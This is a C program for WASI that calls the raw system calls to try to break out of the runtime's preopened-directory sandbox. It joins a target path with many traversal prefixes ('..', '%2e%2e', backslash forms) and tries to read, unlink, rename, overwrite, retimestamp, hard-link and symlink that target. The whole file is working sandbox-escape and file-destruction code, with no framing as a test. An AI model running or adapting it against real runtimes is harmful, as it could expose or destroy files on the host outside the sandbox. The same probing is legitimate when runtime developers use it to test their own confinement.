#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <wasi/api.h>

/* The system calls themselves, below the C library that cleans paths up. */
static void attempt(__wasi_fd_t dir, const char *path, size_t length) {
    const __wasi_rights_t rights = __WASI_RIGHTS_FD_READ | __WASI_RIGHTS_FD_WRITE;
    char *copy = malloc(length + 1);
    memcpy(copy, path, length);
    copy[length] = 0;
    for (int flags = 0; flags < 16; flags++) {
        __wasi_fd_t fd;
        if (__wasi_path_open(dir, (flags & 1) ? __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW : 0, copy, (__wasi_oflags_t)(flags & 8), (flags & 2) ? rights : __WASI_RIGHTS_FD_READ,
                             rights, (flags & 4) ? __WASI_FDFLAGS_APPEND : 0, &fd))
            continue;
        uint8_t text[200] = {0};
        __wasi_iovec_t part = {text, sizeof text - 1};
        __wasi_size_t n = 0;
        if (__wasi_fd_read(fd, &part, 1, &n) == 0) printf("dir %u flags %d: [%s]\n", dir, flags, text);
        __wasi_fd_close(fd);
    }
    free(copy);
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    const char *target = argv[1];
    char path[4096];
    for (__wasi_fd_t dir = 0; dir < 32; dir++) {
        __wasi_prestat_t prestat;
        if (__wasi_fd_prestat_get(dir, &prestat) == 0) {
            uint8_t name[256] = {0};
            if (__wasi_fd_prestat_dir_name(dir, name, sizeof name - 1) == 0) printf("preopen %u [%s]\n", dir, name);
        }
        static const char *prefixes[] = {"", "/", "..", "../../../../../../../../..", "./..", "a/../..", "/..", "\\..", "%2e%2e", "..\\.."};
        for (size_t i = 0; i < sizeof prefixes / sizeof *prefixes; i++) {
            int n = snprintf(path, sizeof path, "%s%s", prefixes[i], target);
            attempt(dir, path, (size_t)n);
            attempt(dir, path, (size_t)n + 1);
            __wasi_path_unlink_file(dir, path);
            __wasi_path_rename(dir, path, dir, "taken");
            __wasi_path_rename(dir, "main.c", dir, path);
            __wasi_path_filestat_set_times(dir, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, path, 0, 0, __WASI_FSTFLAGS_ATIM | __WASI_FSTFLAGS_MTIM);
            __wasi_path_link(dir, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, path, dir, "hard");
            attempt(dir, "hard", 4);
            __wasi_path_unlink_file(dir, "hard");
            __wasi_path_symlink(path, dir, "soft");
            attempt(dir, "soft", 4);
            attempt(dir, "soft/", 5);
            __wasi_path_unlink_file(dir, "soft");
            __wasi_path_create_directory(dir, path);
        }
    }
    puts("done");
}
